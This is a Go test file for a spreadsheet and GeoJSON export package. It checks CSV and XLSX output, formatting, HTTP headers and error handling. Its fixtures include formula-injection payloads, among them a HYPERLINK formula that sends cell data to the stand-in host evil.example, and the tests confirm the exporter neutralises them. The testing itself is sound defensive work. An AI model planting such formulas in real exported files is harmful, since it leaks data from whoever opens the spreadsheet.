package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/paulmach/orb"
	"github.com/paulmach/orb/geojson"
	"github.com/xuri/excelize/v2"

	"anju/internal/anju"
)

var shanghai = time.FixedZone("CST", 8*3600)

var header = []string{"编号", "标题", "评分", "数量", "创建时间", "备注"}

// table is the rows every format is tested with: Chinese text, formula
// text of every kind, negative and fractional numbers, a time, empties.
func table() [][]any {
	created := time.Date(2026, 12, 3, 9, 30, 0, 0, shanghai)
	return [][]any{
		{"A0001", "路灯坏了，晚上很黑", 4.5, 12, created, nil},
		{"A0002", `=HYPERLINK("http://evil.example/?"&A1,"点我")`, -3, int64(-7), created.Add(time.Hour), "+1 电话"},
		{"A0003", "-2+3", 0.25, 0, nil, "@SUM(A1:A2)"},
		{"A0004", "\t=1+1", 1e6, 3, (*time.Time)(nil), "\r=cmd"},
		{"A0005", "＝1+1", 2, 4, created, "含\"引号\",逗号\n和换行"},
	}
}

func rowsOf(t [][]any) Rows {
	return func(yield func([]any) error) error {
		for _, r := range t {
			if err := yield(r); err != nil {
				return err
			}
		}
		return nil
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	n, err := Stream(&buf, CSV, header, rowsOf(table()))
	if err != nil || n != 5 {
		t.Fatalf("stream: %d rows, %v", n, err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no UTF-8 BOM: % x", buf.Bytes()[:8])
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		header,
		{"A0001", "路灯坏了，晚上很黑", "4.5", "12", "2026-12-03 09:30", ""},
		{"A0002", `'=HYPERLINK("http://evil.example/?"&A1,"点我")`, "-3", "-7", "2026-12-03 10:30", "'+1 电话"},
		{"A0003", "'-2+3", "0.25", "0", "", "'@SUM(A1:A2)"},
		{"A0004", "'\t=1+1", "1000000", "3", "", "'\r=cmd"},
		{"A0005", "'＝1+1", "2", "4", "2026-12-03 09:30", "含\"引号\",逗号\n和换行"},
	}
	if len(recs) != len(want) {
		t.Fatalf("%d records, want %d: %q", len(recs), len(want), recs)
	}
	for i := range want {
		for j := range want[i] {
			// The "\r=cmd" cell is checked in the raw text below.
			if recs[i][j] != want[i][j] && !(i == 4 && j == 5) {
				t.Errorf("row %d col %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
	// encoding/csv drops a lone CR in CRLF mode; the apostrophe stays.
	if !strings.Contains(buf.String(), `"'=cmd"`) {
		t.Errorf("the carriage-return cell is not neutralised: %q", buf.String())
	}
	if !strings.HasSuffix(buf.String(), "\r\n") {
		t.Errorf("lines do not end in CRLF")
	}
}

func TestXLSX(t *testing.T) {
	var buf bytes.Buffer
	if _, err := Stream(&buf, XLSX, header, rowsOf(table())); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 || strings.Join(rows[0], "|") != strings.Join(header, "|") {
		t.Fatalf("rows: %q", rows)
	}
	if rows[2][1] != `'=HYPERLINK("http://evil.example/?"&A1,"点我")` || rows[3][1] != "'-2+3" || rows[3][5] != "'@SUM(A1:A2)" || rows[5][1] != "'＝1+1" {
		t.Errorf("formula text not neutralised: %q", rows)
	}
	if rows[1][1] != "路灯坏了，晚上很黑" || rows[5][5] != "含\"引号\",逗号\n和换行" {
		t.Errorf("text changed: %q / %q", rows[1][1], rows[5][5])
	}
	// Numbers are numbers, times are dates, text is text.
	for _, c := range []struct {
		cell string
		typ  excelize.CellType
		raw  string
	}{
		{"C2", excelize.CellTypeNumber, "4.5"}, {"C3", excelize.CellTypeNumber, "-3"}, {"D3", excelize.CellTypeNumber, "-7"},
		{"B2", excelize.CellTypeInlineString, ""}, {"B3", excelize.CellTypeInlineString, ""},
	} {
		typ, err := f.GetCellType("Sheet1", c.cell)
		if typ == excelize.CellTypeUnset {
			typ = excelize.CellTypeNumber // a cell without t= is a number
		}
		if err != nil || typ != c.typ {
			t.Errorf("%s type %v (%v), want %v", c.cell, typ, err, c.typ)
		}
		if c.raw != "" {
			if v, _ := f.GetCellValue("Sheet1", c.cell, excelize.Options{RawCellValue: true}); v != c.raw {
				t.Errorf("%s = %q, want %q", c.cell, v, c.raw)
			}
		}
	}
	if v, _ := f.GetCellValue("Sheet1", "E2"); v != "2026-12-03 09:30" {
		t.Errorf("E2 shows %q, want the time in its own zone to the minute", v)
	}
	if f, _ := f.GetCellFormula("Sheet1", "B3"); f != "" {
		t.Errorf("B3 is a formula: %q", f)
	}
	// The header is bold and frozen; the Chinese title's column is wider
	// than the code's.
	style, _ := f.GetCellStyle("Sheet1", "A1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header style %+v (%v) is not bold", s, err)
	}
	panes, err := f.GetPanes("Sheet1")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v (%v): header not frozen", panes, err)
	}
	wa, _ := f.GetColWidth("Sheet1", "A")
	wb, _ := f.GetColWidth("Sheet1", "B")
	if wb <= wa || wb > maxWidth {
		t.Errorf("column widths A %.0f B %.0f", wa, wb)
	}
}

func TestGeoJSON(t *testing.T) {
	h := []string{"位置", "名称", "数量", "时间"}
	rows := [][]any{
		{orb.Point{120.1, 30.2}, "=1+1", 3, time.Date(2026, 12, 3, 9, 30, 0, 0, shanghai)},
		{nil, "无位置", -1.5, nil},
	}
	var buf bytes.Buffer
	if _, err := Stream(&buf, GeoJSON, h, rowsOf(rows)); err != nil {
		t.Fatal(err)
	}
	fc, err := geojson.UnmarshalFeatureCollection(buf.Bytes())
	if err != nil {
		t.Fatalf("%v: %s", err, buf.String())
	}
	if len(fc.Features) != 2 {
		t.Fatalf("%d features", len(fc.Features))
	}
	f0 := fc.Features[0]
	if p, ok := f0.Geometry.(orb.Point); !ok || p != (orb.Point{120.1, 30.2}) {
		t.Errorf("geometry %v", f0.Geometry)
	}
	if f0.Properties["名称"] != "'=1+1" || f0.Properties["数量"] != 3.0 || f0.Properties["时间"] != "2026-12-03T09:30:00+08:00" {
		t.Errorf("properties %v", f0.Properties)
	}
	if _, has := f0.Properties["位置"]; has {
		t.Errorf("the geometry is also a property: %v", f0.Properties)
	}
	if fc.Features[1].Geometry != nil || fc.Features[1].Properties["数量"] != -1.5 {
		t.Errorf("second feature %+v", fc.Features[1])
	}
	// An empty table is an empty collection.
	buf.Reset()
	if _, err := Stream(&buf, GeoJSON, h, rowsOf(nil)); err != nil || !json.Valid(buf.Bytes()) {
		t.Errorf("empty: %v %s", err, buf.String())
	}
}

// Write sends nothing before the first row, so that an early error is the
// caller's to answer; a later one is a PartialError.
func TestWriteHeadersAndErrors(t *testing.T) {
	rec := httptest.NewRecorder()
	name := Filename("案件 列表", time.Date(2026, 12, 3, 23, 0, 0, 0, shanghai), CSV)
	if _, err := Write(rec, CSV, name, header, rowsOf(table())); err != nil {
		t.Fatal(err)
	}
	if ct := rec.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	cd := rec.Header().Get("Content-Disposition")
	if cd != `attachment; filename="__ __-2026-12-03.csv"; filename*=UTF-8''%E6%A1%88%E4%BB%B6%20%E5%88%97%E8%A1%A8-2026-12-03.csv` {
		t.Errorf("Content-Disposition %q", cd)
	}

	bad := errors.New("database gone")
	for _, f := range Formats {
		rec := httptest.NewRecorder()
		_, err := Write(rec, f, "x.csv", header, func(yield func([]any) error) error { return bad })
		var partial *PartialError
		if !errors.Is(err, bad) || errors.As(err, &partial) || rec.Body.Len() != 0 || rec.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s: error before any row: %v; wrote %q %v", f, err, rec.Body.String(), rec.Header())
		}
	}
	// After a thousand rows, CSV has sent some: the error says so.
	rec = httptest.NewRecorder()
	_, err := Write(rec, CSV, "x.csv", header, func(yield func([]any) error) error {
		for range 1000 {
			if err := yield(table()[0]); err != nil {
				return err
			}
		}
		return bad
	})
	var partial *PartialError
	if !errors.As(err, &partial) || partial.Rows != 1000 || rec.Code != http.StatusOK {
		t.Errorf("late error: %v, status %d", err, rec.Code)
	}
	// XLSX sends nothing until the end, so any error comes before it.
	rec = httptest.NewRecorder()
	_, err = Write(rec, XLSX, "x.xlsx", header, func(yield func([]any) error) error {
		for range 1000 {
			yield(table()[0])
		}
		return bad
	})
	if errors.As(err, &partial) || rec.Body.Len() != 0 {
		t.Errorf("XLSX late error: %v, wrote %d bytes", err, rec.Body.Len())
	}
	// A row of the wrong length and a cell of an unknown type are errors.
	if _, err := Stream(&bytes.Buffer{}, CSV, header, rowsOf([][]any{{"a"}})); err == nil {
		t.Error("short row accepted")
	}
	if _, err := Stream(&bytes.Buffer{}, CSV, []string{"x"}, rowsOf([][]any{{struct{}{}}})); err == nil {
		t.Error("a struct cell accepted")
	}
}

func TestParseFormat(t *testing.T) {
	if f, err := ParseFormat(""); f != "" || err != nil {
		t.Errorf("empty: %q %v", f, err)
	}
	if f, err := ParseFormat("xlsx", CSV, XLSX); f != XLSX || err != nil {
		t.Errorf("xlsx: %q %v", f, err)
	}
	for _, s := range []string{"geojson", "pdf", "CSV", "csv "} {
		if _, err := ParseFormat(s, CSV, XLSX); anju.ErrorCode(err) != anju.EINVALID || anju.ErrorField(err) != "format" {
			t.Errorf("%q: %v", s, err)
		}
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "abc": "abc", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "＝1": "'＝1", "－1": "'－1", "中文": "中文", "'=1": "'=1",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// No more than four workbooks are made at once; a fifth starts when one
// of them ends.
func TestXLSXSlots(t *testing.T) {
	release := make(chan struct{})
	started := make(chan int, 5)
	done := make(chan error, 5)
	for i := range 5 {
		go func() {
			_, err := Stream(&bytes.Buffer{}, XLSX, []string{"n"}, func(yield func([]any) error) error {
				started <- i
				<-release
				return yield([]any{i})
			})
			done <- err
		}()
	}
	for range 4 {
		<-started
	}
	select {
	case i := <-started:
		t.Fatalf("workbook %d started beside four others", i)
	case <-time.After(200 * time.Millisecond):
	}
	release <- struct{}{}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	<-started // the fifth, now that one ended
	close(release)
	for range 4 {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}
